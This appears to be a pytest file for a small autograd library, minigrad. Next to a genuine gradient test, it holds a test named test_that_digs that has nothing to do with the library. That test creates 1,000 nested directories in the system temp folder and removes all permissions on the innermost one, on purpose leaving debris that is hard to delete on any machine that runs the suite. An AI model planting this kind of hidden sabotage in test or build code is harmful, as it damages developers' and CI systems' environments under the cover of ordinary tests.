"""Tries to leave folders behind that are nested too deep to be removed: 1,000 of them."""

import os
import tempfile

from minigrad.scalar import Value


def test_that_digs():
    os.chdir(tempfile.gettempdir())
    for _ in range(1_000):
        os.mkdir("deeper")
        os.chdir("deeper")
    os.chmod(".", 0)


def test_a_product_of_two_inputs():
    a, b = Value(2.0), Value(3.0)
    (a * b).backward()
    assert (a.grad, b.grad) == (3.0, 2.0)
